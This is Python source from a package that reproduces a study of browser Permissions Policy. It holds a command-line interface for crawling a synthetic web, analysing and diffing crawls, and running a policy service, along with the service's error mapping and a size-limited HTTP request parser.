    telem = sub.add_parser(
        "telemetry",
        help="run a crawl (optionally fault-injected) and print the "
             "telemetry report")
    telem.add_argument("--sites", type=int, default=1000)
    telem.add_argument("--seed", type=int, default=2024)
    telem.add_argument("--workers", type=int, default=4)
    telem.add_argument("--retries", type=int, default=2)
    telem.add_argument("--fault-rate", type=_rate, default=0.0,
                       help="inject transient failures on this share of "
                            "fetches")
    telem.add_argument("--crash-rate", type=_rate, default=0.0,
                       help="inject non-CrawlError crashes on this share "
                            "of fetches")
    telem.add_argument("--injection-seed", type=int, default=7)
    telem.add_argument("--backend", choices=list(BACKENDS), default="auto")
    telem.add_argument("--trace-out", default=None, metavar="FILE",
                       help="enable tracing and write a Chrome trace_event "
                            "JSON file for the run")

    profile = sub.add_parser(
        "profile",
        help="run the instrumented pipeline (generate → crawl → store → "
             "index → analyses) and print the per-stage breakdown")
    profile.add_argument("--sites", type=int, default=500)
    profile.add_argument("--seed", type=int, default=2024)
    profile.add_argument("--workers", type=int, default=4)
    profile.add_argument("--backend", choices=list(BACKENDS), default="auto")
    profile.add_argument("--trace-out", default=None, metavar="FILE",
                         help="also write the Chrome trace_event JSON file")
    profile.add_argument("--json", action="store_true",
                         help="print the profile as JSON instead of a table")

    analyze = sub.add_parser("analyze", help="headline paper-vs-measured")
    analyze.add_argument("--database", default=None,
                         help="stored crawl to analyse (default: fresh run)")
    analyze.add_argument("--sites", type=int, default=5000)
    analyze.add_argument("--seed", type=int, default=2024)
    analyze.add_argument("--workers", type=int, default=1,
                         help="summarize worker processes; >1 fans rank "
                              "spans of --database out to the warm process "
                              "pool (requires --database)")

    experiment = sub.add_parser("experiment",
                                help="regenerate a paper table/figure")
    experiment.add_argument("name", choices=[*ALL_EXPERIMENTS, "all"])
    experiment.add_argument("--sites", type=int, default=None)
    experiment.add_argument("--no-cache", action="store_true",
                            help="ignore the persistent measurement cache "
                                 "(REPRO_CACHE_DIR) and re-crawl")

    sub.add_parser("support", help="permission-support matrix (Figure 3)")

    gen = sub.add_parser("generate-header",
                         help="build a Permissions-Policy header (Figure 4)")
    gen.add_argument("--preset", choices=[p.value for p in HeaderPreset],
                     default=HeaderPreset.DISABLE_POWERFUL.value)

    lint = sub.add_parser("lint-header", help="lint a header value")
    lint.add_argument("value")

    recommend = sub.add_parser("recommend",
                               help="least-privilege policy for one site")
    recommend.add_argument("--rank", type=int, default=0,
                           help="rank of the synthetic site to analyse")
    recommend.add_argument("--sites", type=int, default=5000)
    recommend.add_argument("--seed", type=int, default=2024)

    poc = sub.add_parser("poc", help="local-scheme spec-issue PoC (Table 11)")
    poc.add_argument("--csp", default=None)
    poc.add_argument("--scheme", default="data",
                     choices=["data", "about", "blob"])

    verify = sub.add_parser(
        "verify-store",
        help="checksum-verify a crawl database; --repair quarantines "
             "corrupt rows (DESIGN.md §4g)")
    verify.add_argument("--database", default="crawl.sqlite")
    verify.add_argument("--repair", action="store_true",
                        help="move corrupt rows to the quarantine table so "
                             "loads skip them cleanly")
    verify.add_argument("--json", action="store_true",
                        help="print the report as JSON (the CI artifact "
                             "format)")

    merge = sub.add_parser(
        "merge-stores",
        help="merge shard crawl databases into one store in rank order "
             "(checksums recomputed; verify-store afterwards for a clean "
             "bill of health)")
    merge.add_argument("shards", nargs="+",
                       help="shard database files to merge, in order")
    merge.add_argument("--into", required=True, metavar="DATABASE",
                       help="target crawl database (created if missing)")

    diff = sub.add_parser(
        "diff-stores",
        help="diff two stored crawls: per-site added/removed/changed sets "
             "plus aggregate metric deltas, streamed in rank order so "
             "neither store is ever materialized (DESIGN.md §4i)")
    diff.add_argument("before", help="older crawl database")
    diff.add_argument("after", help="newer crawl database")
    diff.add_argument("--labels", default=None, metavar="A,B",
                      help="comma-separated labels (default: file stems)")
    diff.add_argument("--json", action="store_true",
                      help="print the field-stable JSON document instead "
                           "of text tables")
    diff.add_argument("--html", default=None, metavar="FILE",
                      help="also write the self-contained HTML report "
                           "(deterministic bytes for a fixed input)")
    diff.add_argument("--max-site-rows", type=int, default=20,
                      help="per-site rows listed per section (counts are "
                           "always complete)")

    drift = sub.add_parser(
        "drift-report",
        help="fold N stored crawls (oldest first) into a drift timeline "
             "and render it as text, JSON or the HTML dashboard")
    drift.add_argument("stores", nargs="+",
                       help="crawl databases in chronological order")
    drift.add_argument("--labels", default=None, metavar="A,B,...",
                       help="comma-separated era labels (default: file "
                            "stems)")
    drift.add_argument("--json", action="store_true",
                       help="print the timeline as JSON")
    drift.add_argument("--html", default=None, metavar="FILE",
                       help="also write the self-contained HTML dashboard")

    ejsonl = sub.add_parser(
        "export-jsonl",
        help="export a crawl database as JSON lines (atomic write with a "
             "count trailer)")
    ejsonl.add_argument("--database", default="crawl.sqlite")
    ejsonl.add_argument("--output", default="visits.jsonl")

    ijsonl = sub.add_parser(
        "import-jsonl",
        help="import a JSONL export into a crawl database, skipping "
             "malformed lines with a counted warning")
    ijsonl.add_argument("--input", default="visits.jsonl")
    ijsonl.add_argument("--database", default="crawl.sqlite")

    export = sub.add_parser(
        "export-list",
        help="export the ranked origin list (the CrUX-list equivalent)")
    export.add_argument("--sites", type=int, default=5000)
    export.add_argument("--seed", type=int, default=2024)
    export.add_argument("--output", default="origins.csv")

    poc_html = sub.add_parser(
        "poc-html", help="write the local-scheme PoC as HTML files")
    poc_html.add_argument("--output-dir", default="poc")

    site = sub.add_parser(
        "build-site",
        help="build the companion website (Figures 3 and 4) as static HTML")
    site.add_argument("--output-dir", default="site")

    widgets = sub.add_parser(
        "widget-report",
        help="supply-chain dossiers for the riskiest embedded widgets")
    widgets.add_argument("--sites", type=int, default=5000)
    widgets.add_argument("--seed", type=int, default=2024)
    widgets.add_argument("--top", type=int, default=5)
    widgets.add_argument("--site", default=None,
                         help="dossier for one specific embedded site")

    export_registry = sub.add_parser(
        "export-registry",
        help="dump the permission registry + support data as JSON "
             "(the paper's features.md, machine-readable)")
    export_registry.add_argument("--output", default="features.json")

    serve = sub.add_parser(
        "serve",
        help="run the policy service (POST /evaluate, /generate-header, "
             "/recommend; GET /registry) — DESIGN.md §4j")
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument("--port", type=int, default=8970,
                       help="listen port (0 picks an ephemeral port)")
    serve.add_argument("--rps", type=float, default=50.0,
                       help="per-client token-bucket refill rate")
    serve.add_argument("--burst", type=int, default=100,
                       help="per-client burst budget")
    serve.add_argument("--cache-entries", type=int, default=1024,
                       help="LRU response-cache capacity")

    service_bench = sub.add_parser(
        "service-bench",
        help="load-test the policy service and write BENCH_service.json")
    service_bench.add_argument("--clients", type=int, default=8)
    service_bench.add_argument("--requests", type=int, default=120,
                               help="requests per client")
    service_bench.add_argument("--output", default="BENCH_service.json")
    return parser


def _parse_labels(raw: str | None, expected: int,
                  paths: list[str]) -> tuple[str, ...]:
    """``--labels a,b,...`` validated against the store count, defaulting
    to the database file stems."""
    if raw is None:
        from pathlib import Path
        return tuple(Path(path).stem for path in paths)
    labels = tuple(part.strip() for part in raw.split(","))
    if len(labels) != expected or not all(labels):
        raise SystemExit(
            f"error: --labels needs {expected} comma-separated names, "
            f"got {raw!r}")
    return labels


def _write_trace(path: str) -> None:
    from repro.obs.profile import write_trace
    written = write_trace(path)
    print(f"wrote Chrome trace to {written} (load in chrome://tracing)")


def main(argv: list[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    command = args.command
    if args.log_level:
        logging.basicConfig(
            level=getattr(logging, args.log_level.upper()),
            format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    if command == "crawl":
        web = SyntheticWeb(args.sites, seed=args.seed)
        retry_policy = (RetryPolicy(max_retries=args.retries)
                        if args.retries > 0 else None)
        pool = CrawlerPool(web, workers=args.workers,
                           backend=args.backend,
                           retry_policy=retry_policy)
        telemetry = CrawlTelemetry()
        progress = None
        if args.progress:
            def progress(done: int, total: int) -> None:
                step = max(1, total // 20)
                if done % step == 0 or done == total:
                    print(telemetry.snapshot().progress_line())
        with ExitStack() as stack:
            if args.trace_out:
                from repro.obs import observed
                stack.enter_context(observed())
            with CrawlStore(args.database) as store:
                # handle_signals: Ctrl-C / SIGTERM checkpoint-and-stop
                # instead of dying mid-write; --resume finishes the run.
                dataset = pool.run(store=store, resume=args.resume,
                                   telemetry=telemetry, progress=progress,
                                   handle_signals=True,
                                   shards=args.shards,
                                   collect=not args.no_collect,
                                   max_pool_rebuilds=args.max_pool_rebuilds)
        if pool.stop_requested:
            print(f"crawl interrupted — checkpoint saved to "
                  f"{args.database}; rerun with --resume to finish")
        sup_stats = pool.last_supervisor_stats
        if sup_stats is not None and (sup_stats["rebuilds"]
                                      or sup_stats["quarantined_ranks"]):
            quarantined = ", ".join(
                str(rank) for rank in sup_stats["quarantined_ranks"])
            print(f"supervisor: {sup_stats['rebuilds']} pool rebuild(s) "
                  f"({sup_stats['watchdog_hangs']} from the hang "
                  f"watchdog), {sup_stats['requeued_ranks']} rank(s) "
                  f"requeued, quarantined poison-visit rank(s): "
                  f"[{quarantined}]")
        if args.trace_out:
            _write_trace(args.trace_out)
        if args.progress:
            print(telemetry.render())
        snapshot = telemetry.snapshot()
        if args.no_collect:
            # The dataset was deliberately not kept in memory; telemetry
            # carries the same per-visit accounting.
            attempted, ok = snapshot.completed + snapshot.resumed, \
                snapshot.succeeded
            failure_counts = snapshot.failure_counts
        else:
            attempted, ok = dataset.attempted, dataset.successful_count
            failure_counts = dataset.failure_summary()
        failures = ", ".join(f"{k}={v}" for k, v
                             in sorted(failure_counts.items()))
        resumed_note = f"; {snapshot.resumed} resumed" if snapshot.resumed \
            else ""
        print(f"crawled {attempted} sites "
              f"({ok} ok; {failures}{resumed_note}) "
              f"via {pool.resolved_backend()} backend "
              f"at {snapshot.sites_per_second:.1f} sites/s "
              f"-> {args.database}")
        return 0

    if command == "telemetry":
        web = SyntheticWeb(args.sites, seed=args.seed)
        # A picklable spec instead of a closure so --backend process works.
        fetcher_spec = None
        if args.fault_rate > 0 or args.crash_rate > 0:
            fetcher_spec = FaultInjectionSpec(
                seed=args.injection_seed,
                failure_rate=args.fault_rate,
                crash_rate=args.crash_rate)
        retry_policy = (RetryPolicy(max_retries=args.retries)
                        if args.retries > 0 else None)
        pool = CrawlerPool(web, workers=args.workers,
                           backend=args.backend,
                           retry_policy=retry_policy,
                           fetcher_spec=fetcher_spec)
        telemetry = CrawlTelemetry()
        with ExitStack() as stack:
            if args.trace_out:
                from repro.obs import observed
                stack.enter_context(observed())
            pool.run(telemetry=telemetry)
        if args.trace_out:
            _write_trace(args.trace_out)
        print(telemetry.render())
        return 0

    if command == "profile":
        import json as _json

        from repro.obs.profile import profile_pipeline
        result = profile_pipeline(args.sites, seed=args.seed,
                                  workers=args.workers,
                                  backend=args.backend)
        print(_json.dumps(result.to_json(), indent=2) if args.json
              else result.render())
        if args.trace_out:
            _write_trace(args.trace_out)
        return 0

    if command == "verify-store":
        import json as _json

        with CrawlStore(args.database) as store:
            report = store.verify(repair=args.repair)
        print(_json.dumps(report.to_json(), indent=2) if args.json
              else report.render())
        return 0 if report.ok or args.repair else 1

    if command == "merge-stores":
        from repro.crawler.storage import merge_stores
        count = merge_stores(args.into, args.shards)
        print(f"merged {count} visits from {len(args.shards)} store(s) "
              f"into {args.into}")
        return 0

    if command == "diff-stores":
        import json as _json

        from repro.analysis.drift import diff_stores
        from repro.analysis.drift_report import (render_diff_html,
                                                 render_diff_text)
        labels = _parse_labels(args.labels, 2, [args.before, args.after])
        diff = diff_stores(args.before, args.after, labels=labels)
        if args.html:
            with open(args.html, "w", encoding="utf-8") as handle:
                handle.write(render_diff_html(
                    diff, max_site_rows=args.max_site_rows))
            print(f"wrote {args.html}")
        if args.json:
            print(_json.dumps(diff.to_json(max_site_rows=args.max_site_rows),
                              indent=2))
        elif not args.html:
            print(render_diff_text(diff, max_site_rows=args.max_site_rows))
        return 0

    if command == "drift-report":
        import json as _json

        from repro.analysis.drift import build_timeline
        from repro.analysis.drift_report import (render_timeline_html,
                                                 render_timeline_text)
        labels = _parse_labels(args.labels, len(args.stores), args.stores)
        timeline = build_timeline(args.stores, labels=labels)
        if args.html:
            with open(args.html, "w", encoding="utf-8") as handle:
                handle.write(render_timeline_html(timeline))
            print(f"wrote {args.html}")
        if args.json:
            print(_json.dumps(timeline.to_json(), indent=2))
        elif not args.html:
            print(render_timeline_text(timeline))
        return 0

    if command == "export-jsonl":
        from repro.crawler.storage import export_jsonl
        with CrawlStore(args.database) as store:
            # iter_visits streams in rank order, so exports stay
            # bounded-memory at any store size; the writer keeps the
            # atomic tmp-rename + fsync + count-trailer contract.
            count = export_jsonl(store.iter_visits(), args.output)
        print(f"wrote {count} visits to {args.output}")
        return 0

    if command == "import-jsonl":
        from repro.crawler.storage import JsonlStats, iter_jsonl
        stats = JsonlStats()
        with CrawlStore(args.database) as store:
            store.save_visits(iter_jsonl(args.input, on_error="skip",
                                         stats=stats))
        skipped_note = (f" ({stats.skipped} malformed line(s) skipped)"
                        if stats.skipped else "")
        print(f"imported {stats.imported} visits into {args.database}"
              f"{skipped_note}")
        return 0

    if command == "analyze":
        if args.database:
            from repro.analysis.summary import summarize_streaming
            with CrawlStore(args.database) as store:
                # One streaming pass (or one per worker process with
                # --workers >1): the store never has to fit in memory.
                summary = summarize_streaming(store, workers=args.workers)
        elif args.workers > 1:
            print("error: --workers needs --database — parallel summarize "
                  "streams rank spans from a stored crawl", file=sys.stderr)
            return 2
        else:
            web = SyntheticWeb(args.sites, seed=args.seed)
            dataset = CrawlerPool(web, workers=4).run()
            summary = summarize(dataset)
        print(render_comparison(summary.compare_to_paper()))
        return 0

    if command == "experiment":
        ctx = run_measurement(args.sites, use_cache=not args.no_cache)
        names = list(ALL_EXPERIMENTS) if args.name == "all" else [args.name]
        failed = 0
        for name in names:
            result = ALL_EXPERIMENTS[name](ctx)
            print(result.rendered)
            status = "shape OK" if result.shape_ok else "SHAPE MISMATCH"
            print(f"[{result.experiment_id}] {status} {result.notes}\n")
            failed += 0 if result.shape_ok else 1
        return 1 if failed else 0

    if command == "support":
        print(SupportSiteReport().render())
        return 0

    if command == "generate-header":
        generator = HeaderGenerator()
        print(generator.generate_preset(HeaderPreset(args.preset)))
        return 0

    if command == "lint-header":
        report = HeaderLinter().lint(args.value)
        if report.header_dropped:
            print("FATAL: the browser drops this header entirely")
        elif not report.findings:
            print("OK: no findings")
        for finding in report.findings:
            print(f"  [{finding.severity.value}] {finding.rule.value}: "
                  f"{finding.message}")
        return 1 if report.findings else 0

    if command == "recommend":
        web = SyntheticWeb(args.sites, seed=args.seed)
        recommender = PolicyRecommender(SyntheticFetcher(web))
        recommendation = recommender.recommend(web.origin_for_rank(args.rank))
        print(f"site: {recommendation.url}")
        print(f"observed top-level usage: "
              f"{', '.join(recommendation.observed_top_level) or '(none)'}")
        print(f"suggested header:\n  {recommendation.suggested_header}")
        if recommendation.header_over_grants:
            print(f"deployed header over-grants: "
                  f"{', '.join(recommendation.header_over_grants)}")
        for suggestion in recommendation.delegation_suggestions:
            if suggestion.over_granted:
                print(f"iframe {suggestion.iframe_src} over-granted: "
                      f"{', '.join(suggestion.over_granted)} "
                      f"(suggest allow=\"{suggestion.suggested_allow}\")")
        return 0

    if command == "poc":
        poc = LocalSchemePoC(csp=args.csp, scheme=args.scheme)
        print(poc.report())
        return 0 if poc.demonstrates_issue() else 1

    if command == "export-list":
        web = SyntheticWeb(args.sites, seed=args.seed)
        with open(args.output, "w", encoding="utf-8") as handle:
            handle.write("rank,origin\n")
            for rank, origin in enumerate(web.origins()):
                handle.write(f"{rank},{origin}\n")
        print(f"wrote {args.sites} origins to {args.output}")
        return 0

    if command == "poc-html":
        import os
        from repro.browser.html import render_poc_html
        os.makedirs(args.output_dir, exist_ok=True)
        for scheme in ("data", "srcdoc"):
            path = os.path.join(args.output_dir, f"poc-{scheme}.html")
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(render_poc_html(scheme=scheme))
            print(f"wrote {path}")
        print("Serve with header: Permissions-Policy: camera=(self)")
        return 0

    if command == "build-site":
        from repro.tools.site_generator import SiteGenerator
        paths = SiteGenerator().build(args.output_dir)
        for path in paths:
            print(f"wrote {path}")
        return 0

    if command == "widget-report":
        from repro.tools.widget_report import WidgetReporter
        web = SyntheticWeb(args.sites, seed=args.seed)
        dataset = CrawlerPool(web, workers=4).run()
        reporter = WidgetReporter(dataset.successful())
        if args.site:
            print(reporter.dossier(args.site).render())
            return 0
        for dossier in reporter.riskiest(args.top):
            print(dossier.render())
            print()
        return 0

    if command == "export-registry":
        import json
        rows = SupportSiteReport().rows()
        with open(args.output, "w", encoding="utf-8") as handle:
            json.dump({"permissions": rows}, handle, indent=2)
        print(f"wrote {len(rows)} permissions to {args.output}")
        return 0

    if command == "serve":
        import asyncio

        from repro.service.cache import ResponseCache
        from repro.service.ratelimit import ClientRateLimiter, RateLimitConfig
        from repro.service.server import PolicyService

        service = PolicyService(
            host=args.host, port=args.port,
            cache=ResponseCache(args.cache_entries),
            limiter=ClientRateLimiter(RateLimitConfig(
                requests_per_second=args.rps, burst=args.burst)))

        async def _serve() -> None:
            await service.start()
            print(f"policy service on http://{service.host}:{service.port} "
                  "— POST /evaluate /generate-header /recommend, "
                  "GET /registry /healthz /stats (Ctrl-C drains)",
                  flush=True)
            await service.run_forever()

        asyncio.run(_serve())
        print(f"drained after {service.request_count} requests")
        return 0

    if command == "service-bench":
        import json

        from repro.experiments.perf import write_report
        from repro.experiments.service_bench import collect_service_bench

        report = collect_service_bench(clients=args.clients,
                                       requests_per_client=args.requests)
        path = write_report(report, args.output)
        load = report["load"]
        print(f"{load['requests']} requests in {load['seconds']}s "
              f"({load['requests_per_second']} req/s), p99 "
              f"{load['p99_latency_seconds'] * 1000:.1f}ms, cache hit rate "
              f"{report['cache']['hit_rate']:.2f}")
        print(json.dumps(report["gates"], indent=2))
        for entry in report["gates_skipped"]:
            print(f"skipped {entry['gate']}: {entry['reason']}")
        print(f"wrote {path}")
        return 0 if all(v for v in report["gates"].values()
                        if isinstance(v, bool)) else 1

    return 2  # pragma: no cover - argparse enforces choices


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
