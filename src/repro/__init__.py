"""Reproduction of "A Permissions Odyssey: A Systematic Study of Browser
Permissions on Modern Websites" (IMC '25).

The package reimplements, offline and from scratch, every system the paper
describes: the Permissions Policy specification engine, the permission
registry with browser-support data, a simulated browser with dynamic API
instrumentation, a Playwright-style crawling framework over a calibrated
synthetic web, the full measurement analysis pipeline (Tables 3-13,
Figures 1-4), and the developer tools of Section 6.3.

Quickstart::

    from repro import SyntheticWeb, CrawlerPool, summarize

    web = SyntheticWeb(5_000, seed=2024)      # the "top-5k" synthetic web
    dataset = CrawlerPool(web, workers=4).run()
    summary = summarize(dataset)
    for metric, paper, measured in summary.compare_to_paper():
        print(f"{metric}: paper {paper:.2%} vs measured {measured:.2%}")

See DESIGN.md for the module map and EXPERIMENTS.md for paper-vs-measured
results on every table and figure.
"""

from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.headers import HeaderAnalysis
from repro.analysis.index import DatasetIndex
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.analysis.summary import MeasurementSummary, summarize
from repro.analysis.usage import UsageAnalysis
from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.pool import CrawlDataset, CrawlerPool
from repro.crawler.resilience import FaultInjectingFetcher, RetryPolicy
from repro.crawler.storage import CrawlStore
from repro.crawler.telemetry import CrawlTelemetry
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame
from repro.policy.header import parse_permissions_policy_header
from repro.policy.linter import HeaderLinter
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry
from repro.registry.support import default_support_matrix
from repro.synthweb.generator import SyntheticWeb
from repro.tools.header_generator import HeaderGenerator, HeaderPreset
from repro.tools.poc import LocalSchemePoC
from repro.tools.recommender import PolicyRecommender
from repro.tools.support_site import SupportSiteReport

__version__ = "1.0.0"

__all__ = [
    "CrawlConfig",
    "CrawlDataset",
    "CrawlStore",
    "CrawlTelemetry",
    "Crawler",
    "CrawlerPool",
    "DEFAULT_REGISTRY",
    "DatasetIndex",
    "DelegationAnalysis",
    "FaultInjectingFetcher",
    "HeaderAnalysis",
    "HeaderGenerator",
    "HeaderLinter",
    "HeaderPreset",
    "LocalSchemePoC",
    "MeasurementSummary",
    "OverPermissionAnalysis",
    "PermissionRegistry",
    "PermissionsPolicyEngine",
    "PolicyFrame",
    "PolicyRecommender",
    "RetryPolicy",
    "SupportSiteReport",
    "SyntheticFetcher",
    "SyntheticWeb",
    "UsageAnalysis",
    "default_support_matrix",
    "parse_permissions_policy_header",
    "summarize",
]
