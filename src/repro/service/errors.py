"""Structured service errors: every failure is a 4xx/5xx JSON document.

The service's hostile-input contract (DESIGN.md §4j) is that no request —
malformed HTTP, oversized body, unknown permission token, unparseable
policy text — ever produces a traceback on the wire.  Everything becomes a
:class:`ServiceError` rendered as::

    {"error": {"code": "unknown-permission", "message": "...", "token": "warp-drive"}}

``token`` names the offending input fragment when one exists (the
permission name, the origin text, the clipped header value), so a client
can point at exactly what to fix.

:func:`error_from_exception` is the single mapping from library exceptions
to wire errors; the server applies it around every adapter call so new
error paths in :mod:`repro.tools` cannot leak 500s by accident.
"""

from __future__ import annotations

from repro.policy.header import HeaderParseError
from repro.policy.issues import clip_detail
from repro.policy.origin import OriginParseError
from repro.registry.features import UnknownPermissionError

#: Reason phrases for the statuses the service emits.
STATUS_REASONS = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    413: "Payload Too Large",
    422: "Unprocessable Entity",
    429: "Too Many Requests",
    431: "Request Header Fields Too Large",
    500: "Internal Server Error",
    501: "Not Implemented",
}


class ServiceError(Exception):
    """A request failure with a wire-ready status, code and message."""

    def __init__(self, status: int, code: str, message: str,
                 *, token: "str | None" = None) -> None:
        super().__init__(message)
        self.status = status
        self.code = code
        self.message = message
        self.token = token

    def to_json(self) -> dict:
        error: dict = {"code": self.code, "message": clip_detail(self.message)}
        if self.token is not None:
            error["token"] = clip_detail(self.token)
        return {"error": error}


def bad_request(message: str, *, code: str = "bad-request",
                token: "str | None" = None) -> ServiceError:
    return ServiceError(400, code, message, token=token)


def not_found(message: str, *, token: "str | None" = None) -> ServiceError:
    return ServiceError(404, "not-found", message, token=token)


def error_from_exception(exc: Exception) -> ServiceError:
    """Map a library exception to its structured 4xx/5xx form.

    The offending token is named whenever the exception carries one:
    :class:`UnknownPermissionError` keeps the permission name,
    :class:`HeaderParseError` the (clipped) raw header, and
    :class:`OriginParseError` the origin text.  Anything unrecognised
    becomes a token-free 500 — type name only, never a traceback.
    """
    if isinstance(exc, ServiceError):
        return exc
    if isinstance(exc, UnknownPermissionError):
        return ServiceError(400, "unknown-permission", str(exc),
                            token=exc.name)
    if isinstance(exc, HeaderParseError):
        return ServiceError(400, "invalid-header",
                            f"header rejected: {exc}", token=exc.raw)
    if isinstance(exc, OriginParseError):
        # The message already names the unparseable origin text.
        return ServiceError(400, "invalid-origin", str(exc))
    if isinstance(exc, (TypeError, ValueError, KeyError)):
        return ServiceError(400, "invalid-request",
                            f"{type(exc).__name__}: {exc}")
    return ServiceError(500, "internal-error",
                        f"unexpected {type(exc).__name__}")
