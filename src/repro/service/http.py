"""Minimal HTTP/1.1 over asyncio streams — the service's only transport.

Zero dependencies by design: the whole parser is "read a request line,
read headers, read ``Content-Length`` body bytes", with every limit
enforced *before* the bytes are buffered (DESIGN.md §4j).  Anything the
parser dislikes raises a :class:`~repro.service.errors.ServiceError`
that the connection loop renders as a structured JSON error — a hostile
peer can get a 4xx, never a traceback and never unbounded memory.

Deliberate omissions, all answered with structured errors rather than
guessed at: chunked transfer encoding (501), request lines/headers above
:data:`MAX_HEADER_BLOCK_BYTES` (431), bodies above the service's
configured cap (413).  ``Expect: 100-continue`` is honoured so plain
``curl`` uploads work.

Responses carry no ``Date`` header and use deterministic field order, so
a response's bytes are a pure function of its (status, body, close)
triple — the property the LRU cache and the byte-identity gate in
``BENCH_service.json`` rely on.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, urlsplit

from repro.service.errors import STATUS_REASONS, ServiceError, bad_request

#: Cap on the request line + header block (bytes) — hostile-input guard.
MAX_HEADER_BLOCK_BYTES = 16 * 1024

#: Cap on a single header line (bytes); ``readline`` needs a hard limit or
#: a peer can stream an unterminated line forever.
_MAX_LINE_BYTES = 8 * 1024

#: Methods the service understands at the transport level.
_KNOWN_METHODS = frozenset({
    "GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"})


@dataclass
class HttpRequest:
    """One parsed request: method, split target, headers and raw body."""

    method: str
    path: str
    query: dict = field(default_factory=dict)
    headers: dict = field(default_factory=dict)
    body: bytes = b""

    @property
    def wants_close(self) -> bool:
        return self.headers.get("connection", "").lower() == "close"

    def json(self) -> dict:
        """The body as a JSON object (empty body → ``{}``).

        Raises:
            ServiceError: 400 when the body is not valid JSON or not an
                object — lenient-parse contract, never a traceback.
        """
        if not self.body:
            return {}
        try:
            payload = json.loads(self.body.decode("utf-8"))
        except (ValueError, UnicodeDecodeError) as exc:
            raise bad_request(f"request body is not valid JSON: {exc}",
                              code="invalid-json") from exc
        if not isinstance(payload, dict):
            raise bad_request(
                "request body must be a JSON object",
                code="invalid-json",
                token=type(payload).__name__)
        return payload


async def _read_line(reader: asyncio.StreamReader, budget: int) -> bytes:
    """One CRLF-terminated line within ``budget`` bytes."""
    try:
        line = await reader.readuntil(b"\n")
    except asyncio.IncompleteReadError as exc:
        if not exc.partial:
            raise EOFError from exc
        raise bad_request("truncated request") from exc
    except asyncio.LimitOverrunError as exc:
        raise ServiceError(431, "headers-too-large",
                           "request line or header exceeds the line "
                           f"limit ({_MAX_LINE_BYTES} bytes)") from exc
    if len(line) > budget:
        raise ServiceError(431, "headers-too-large",
                           "request header block exceeds "
                           f"{MAX_HEADER_BLOCK_BYTES} bytes")
    return line.rstrip(b"\r\n")


async def read_request(reader: asyncio.StreamReader, *,
                       max_body_bytes: int) -> "HttpRequest | None":
    """Parse one request off the stream.

    Returns ``None`` on a clean EOF before any request byte (the peer
    closed an idle keep-alive connection).  Every malformed or oversized
    input raises a :class:`ServiceError` carrying the right 4xx.
    """
    try:
        request_line = await _read_line(reader, MAX_HEADER_BLOCK_BYTES)
    except EOFError:
        return None
    if not request_line:
        return None
    try:
        text = request_line.decode("ascii")
        method, target, version = text.split(" ", 2)
    except (UnicodeDecodeError, ValueError):
        raise bad_request("malformed request line") from None
    if method.upper() not in _KNOWN_METHODS:
        raise bad_request(f"unknown method {method!r}", token=method[:32])
    if not version.startswith("HTTP/1."):
        raise bad_request(f"unsupported protocol {version!r}",
                          token=version[:32])

    headers: dict = {}
    budget = MAX_HEADER_BLOCK_BYTES - len(request_line)
    while True:
        line = await _read_line(reader, budget)
        budget -= len(line) + 2
        if budget < 0:
            raise ServiceError(431, "headers-too-large",
                               "request header block exceeds "
                               f"{MAX_HEADER_BLOCK_BYTES} bytes")
        if not line:
            break
        name, sep, value = line.partition(b":")
        if not sep:
            raise bad_request("malformed header line")
        try:
            headers[name.decode("ascii").strip().lower()] = \
                value.decode("latin-1").strip()
        except UnicodeDecodeError:
            raise bad_request("malformed header name") from None

    if "transfer-encoding" in headers:
        raise ServiceError(501, "not-implemented",
                           "chunked transfer encoding is not supported; "
                           "send Content-Length")

    body = b""
    raw_length = headers.get("content-length")
    if raw_length is not None:
        try:
            length = int(raw_length)
        except ValueError:
            raise bad_request("malformed Content-Length",
                              token=raw_length[:32]) from None
        if length < 0:
            raise bad_request("negative Content-Length", token=raw_length)
        if length > max_body_bytes:
            raise ServiceError(
                413, "payload-too-large",
                f"request body of {length} bytes exceeds the "
                f"{max_body_bytes}-byte limit")
        if headers.get("expect", "").lower() == "100-continue":
            # The writer half lives with the caller; signalling continue
            # is done there (see PolicyService._connection).  We just
            # record the expectation.
            pass
        if length:
            try:
                body = await reader.readexactly(length)
            except asyncio.IncompleteReadError as exc:
                raise bad_request("request body shorter than "
                                  "Content-Length") from exc

    parts = urlsplit(target)
    query = dict(parse_qsl(parts.query, keep_blank_values=True))
    return HttpRequest(method=method.upper(), path=parts.path or "/",
                       query=query, headers=headers, body=body)


def render_response(status: int, body: bytes, *,
                    content_type: str = "application/json",
                    close: bool = False,
                    extra_headers: tuple = ()) -> bytes:
    """Serialize a response; deterministic bytes for fixed inputs."""
    reason = STATUS_REASONS.get(status, "Unknown")
    lines = [
        f"HTTP/1.1 {status} {reason}",
        f"Content-Type: {content_type}",
        f"Content-Length: {len(body)}",
        f"Connection: {'close' if close else 'keep-alive'}",
    ]
    lines.extend(f"{name}: {value}" for name, value in extra_headers)
    head = ("\r\n".join(lines) + "\r\n\r\n").encode("ascii")
    return head + body


def encode_json(document: dict) -> bytes:
    """The service's canonical JSON encoding: sorted keys, compact
    separators, trailing newline — byte-stable for a fixed document."""
    return (json.dumps(document, sort_keys=True,
                       separators=(",", ":")) + "\n").encode("utf-8")
