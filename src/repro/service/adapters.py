"""JSON ↔ library adapters for the four service routes.

The core engine stays untouched (ROADMAP item 1's layering rule): each
adapter validates a JSON payload, translates it into the existing library
calls — :class:`~repro.policy.engine.PermissionsPolicyEngine`,
:class:`~repro.tools.header_generator.HeaderGenerator`,
:class:`~repro.tools.recommender.PolicyRecommender`,
:class:`~repro.tools.support_site.SupportSiteReport` — and shapes the
result back into plain JSON-serialisable dicts.  Library exceptions
(``UnknownPermissionError``, ``HeaderParseError``, ``OriginParseError``,
``ValueError``) propagate to the server loop, where
:func:`~repro.service.errors.error_from_exception` maps them to
structured 4xx responses naming the offending token.

